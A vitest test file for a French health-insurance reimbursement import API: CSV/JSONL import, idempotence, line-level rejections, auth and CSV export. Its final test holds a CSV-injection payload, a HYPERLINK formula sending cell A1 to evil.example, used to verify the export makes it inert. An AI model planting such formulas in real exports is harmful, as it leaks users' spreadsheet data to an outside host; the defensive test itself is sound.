import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { eq } from "drizzle-orm";
import { reimbursementLine, reimbursementLineRevision } from "../../app/modules/reimbursements/schema.ts";
import { demo, TestClient, visibleText } from "../support/http-client.ts";
import { decomptesHeader as header, importApiServer, importToken as token } from "../support/import-api.ts";
import { startTestServer } from "../support/test-server.ts";

const { handle, post } = importApiServer();

describe("POST /api/v1/decomptes", () => {
  it("imports the documented example files", async () => {
    const csv = await post(new Uint8Array(readFileSync("docs/examples/decomptes-exemple.csv")));
    expect(csv.status).toBe(200);
    // The engine's check (ADR 0020) finds what the examples paid: GP OPTAM 30 € → 9,00 (the 2 € participation
    // stays, L160-13 II CSS); pharmacy at 65 % for a minor (no franchise) 23,14 − 15,04 = 8,10; the ostéopathie
    // line is sent without a category, so it is not recomputed.
    expect(await csv.json()).toMatchObject({
      read: 3,
      inserted: 3,
      updated: 0,
      unchanged: 0,
      rejected: 0,
      errors: [],
      pricingCheck: { matching: 2, different: 0, notComputed: 1 },
    });
    const jsonl = await post(new Uint8Array(readFileSync("docs/examples/decomptes-exemple.jsonl")), {
      contentType: "application/x-ndjson",
    });
    // Biology for an adult: 60 % × 45,60 = 27,36 − 2 € participation forfaitaire (L160-13 II CSS: "tout acte de
    // biologie médicale") = 25,36; 100 % BR y compris RO: 45,60 − 27,36 = 18,24; reste à charge 2,00. Pharmacy at
    // 65 % for a child (no franchise): 15,44 − 10,04 = 5,40.
    expect(await jsonl.json()).toMatchObject({
      read: 2,
      inserted: 2,
      rejected: 0,
      pricingCheck: { matching: 2, different: 0, notComputed: 0 },
    });
    // The member sees the new line, with the amounts and the reste à charge computed.
    const benoit = new TestClient(handle.server.baseUrl);
    await benoit.signIn(demo.benoit.number, demo.benoit.password);
    const text = visibleText(await (await benoit.get("/remboursements?periode=2026&soin=osteopathie")).text());
    expect(text).toContain("Ostéopathie 50,00 € Soins de Sarah Mancion · versé le 29/09/2026 à Sarah");
    const [line] = await handle.server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "NOE-2026-0000003"));
    expect(line).toMatchObject({
      chargedCents: 6000,
      amcCents: 5000,
      remainingCents: 1000,
      paidTo: "beneficiary",
      version: 1,
    });
    // On PostgreSQL new lines are written by COPY with time-ordered ids (UUID version 7); on PGlite the
    // database's default gives a version 4. Either opens the line's page.
    expect(line!.id).toMatch(
      process.env.TEST_DB === "postgres"
        ? /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab]/
        : /^[0-9a-f]{8}-[0-9a-f]{4}-4/,
    );
    const detail = await benoit.get(`/remboursements/${line!.id}`);
    expect(detail.status).toBe(200);
    expect(visibleText(await detail.text())).toContain("Ostéopathie");
  });

  it("is idempotent, and keeps the history of a corrected line", async () => {
    const body = `${header}\nIDEM-1,10000001,10000001-01,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member\n`;
    expect(await (await post(body)).json()).toMatchObject({ inserted: 1, updated: 0, unchanged: 0 });
    expect(await (await post(body)).json()).toMatchObject({ inserted: 0, updated: 0, unchanged: 1 });
    const corrected = body.replace("1000,1000,6500,,650,350", "1200,1000,6500,,650,350");
    expect(await (await post(corrected)).json()).toMatchObject({ inserted: 0, updated: 1, unchanged: 0 });
    const [line] = await handle.server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "IDEM-1"));
    expect(line).toMatchObject({ chargedCents: 1200, remainingCents: 200, version: 2 });
    const history = await handle.server.services.db
      .select()
      .from(reimbursementLineRevision)
      .where(eq(reimbursementLineRevision.lineId, line!.id));
    expect(history).toHaveLength(1);
    expect(history[0]).toMatchObject({
      version: 1,
      snapshot: expect.objectContaining({ charged_cents: 1000, remaining_cents: 0 }),
    });
  });

  it("rejects bad lines with their line number and reason, and takes the good ones", async () => {
    const lines = [
      header,
      "OK-1,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // line 2: good
      "BAD-1,10000009,10000009-01,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 3: unknown
      "BAD-2,10000002,10000001-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 4: other contract
      "BAD-3,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,-5,1000,6500,,650,350,,member", // 5: negative
      "BAD-4,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,,1000,1000,6500,,700,350,,member", // 6: AMO+AMC > charged
      "BAD-5,10000002,10000002-02,pharmacie,2026-02-30,2026-10-03,,1000,1000,6500,,650,350,,member", // 7: no such date
      "BAD-6,10000002,10000002-02,dentiste,2026-10-01,2026-10-03,,1000,1000,6500,,650,350,,member", // 8: care type
      "BAD-7,10000002,10000002-02,pharmacie,2026-10-05,2026-10-03,,1000,1000,6500,,650,350,,member", // 9: paid before care
    ];
    const latin1 = Buffer.from(
      "BAD-8,10000002,10000002-02,pharmacie,2026-10-01,2026-10-03,Dr Hél\xe8ne,1000,1000,6500,,650,350,,member",
      "latin1",
    ); // 10
    const body = new Uint8Array(Buffer.concat([Buffer.from(`${lines.join("\n")}\n`), latin1, Buffer.from("\n")]));
    const res = await post(body);
    expect(res.status).toBe(200);
    const summary = await res.json();
    expect(summary).toMatchObject({ read: 9, inserted: 1, rejected: 8 });
    expect(summary.errors).toEqual([
      { line: 3, reason: "bénéficiaire inconnu : 10000009-01" },
      { line: 4, reason: "le bénéficiaire 10000001-02 n'appartient pas au contrat 10000002" },
      { line: 5, reason: "charged_cents : montant négatif" },
      { line: 6, reason: "montants incohérents : amo_cents + amc_cents dépasse charged_cents" },
      { line: 7, reason: "care_date : date inexistante" },
      { line: 8, reason: "care_type inconnu" },
      { line: 9, reason: "payment_date est avant care_date" },
      { line: 10, reason: "encodage invalide : le fichier doit être en UTF-8" },
    ]);
    const rejectedIds = await handle.server.services.db
      .select()
      .from(reimbursementLine)
      .where(eq(reimbursementLine.sourceLineId, "BAD-1"));
    expect(rejectedIds).toHaveLength(0);
  });

  it("answers 422 when nothing could be imported, and reads unreadable JSON lines as rejections", async () => {
    const res = await post('{"line_id": \n', { contentType: "application/x-ndjson" });
    expect(res.status).toBe(422);
    expect(await res.json()).toMatchObject({ read: 1, rejected: 1, errors: [{ line: 1, reason: "JSON illisible" }] });
  });

  it("refuses a missing or wrong token, another content type, and is absent without a configured token", async () => {
    expect((await post(`${header}\n`, { auth: "" })).status).toBe(401);
    expect((await post(`${header}\n`, { auth: "Bearer not-the-token" })).status).toBe(401);
    expect((await post("<xml/>", { contentType: "application/xml" })).status).toBe(415);
    const plain = await startTestServer();
    try {
      const res = await fetch(`${plain.baseUrl}/api/v1/decomptes`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "text/csv" },
        body: header,
      });
      expect(res.status).toBe(404);
    } finally {
      await plain.close();
    }
  });
});

describe("the member's CSV export", () => {
  it("makes a professional's name that starts like a formula inert in the downloaded CSV", async () => {
    const professional = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")';
    const record = {
      line_id: "CSVINJ-1",
      member_number: "10000001",
      beneficiary_ref: "10000001-01",
      care_type: "audiologie",
      care_date: "2026-08-20",
      payment_date: "2026-08-22",
      professional,
      charged_cents: 1000,
      base_cents: 1000,
      amo_cents: 600,
      amc_cents: 400,
      paid_to: "professional",
    };
    expect(await (await post(JSON.stringify(record), { contentType: "application/x-ndjson" })).json()).toMatchObject({
      inserted: 1,
    });
    const benoit = new TestClient(handle.server.baseUrl);
    await benoit.signIn(demo.benoit.number, demo.benoit.password);
    const csv = await (await benoit.get("/remboursements/export.csv?periode=2026&soin=audiologie")).text();
    const row = csv.split("\r\n").find((l) => l.includes("HYPERLINK"));
    expect(row).toMatch(/^22\/08\/2026;20\/08\/2026;[^;]+;Audiologie;/);
    expect(row).toContain(
      ';"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Cliquez ici"")";10,00;10,00;6,00;4,00;0,00;Professionnel de santé (tiers payant)',
    );
  });
});
